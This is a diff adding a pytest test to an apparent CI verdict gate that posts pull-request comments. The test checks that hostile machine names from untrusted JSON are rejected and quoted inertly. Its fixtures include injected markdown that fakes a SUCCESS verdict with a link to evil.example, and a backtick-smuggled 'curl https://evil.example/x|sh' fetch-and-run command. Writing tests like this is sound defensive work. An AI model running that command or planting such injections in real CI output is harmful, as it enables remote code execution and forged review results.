@@ -202,3 +202,25 @@ def test_the_base_and_machine_the_json_claims_are_checked_before_any_command_nam
     # a head neither here nor in origin: git's own words, an error status
     with pytest.raises(VerdictError, match="is unknown here"):
         pr.gate_base(4, BASE_SHA, "e" * 40)
+
+
+def test_nothing_the_json_names_reaches_the_trusted_part_as_markup(tmp_path, github):
+    """Found by an attack on this file's first fixes: with RAGBENCH_MACHINE unset, the JSON's
+    machine went into the settle command as written, so a newline or a backtick in it made a
+    SUCCESS heading, a link or a command of the pull request's in the trusted footer; and the
+    error comment showed the reason, which quotes the JSON, as markup (a live link)."""
+    settle = {"cells": [["kernel.KernelLatency", "gpu_us", "backend=triton"]], "rounds": 16,
+              "paired": [], "processes": 1}  # fmt: skip
+    doc = {"verdict": "inconclusive", "rounds": 2, "processes": 3, "settle": settle}
+    for machine in (
+        "m\n\n### ragbench verdict: **SUCCESS**\n\n[Re-run](https://evil.example)",
+        "m` then run `curl https://evil.example/x|sh",
+        "[SUCCESS](https://evil.ex)",
+    ):
+        with pytest.raises(VerdictError, match="is not a machine's name"):
+            verdict(tmp_path, github, [failure(status="inconclusive")], machine=machine, **doc)
+        body = github.comments[3][-1]["body"]
+        heading, reason = body.split("\n\n")[0], body.split("\n\n", 1)[1]
+        assert heading.endswith("**ERROR**: the gate produced no verdict (why below)"), body
+        assert reason.startswith("`") and reason.endswith("`") and "\n" not in reason, body
+        assert github.statuses[HEAD][-1]["state"] == "error"
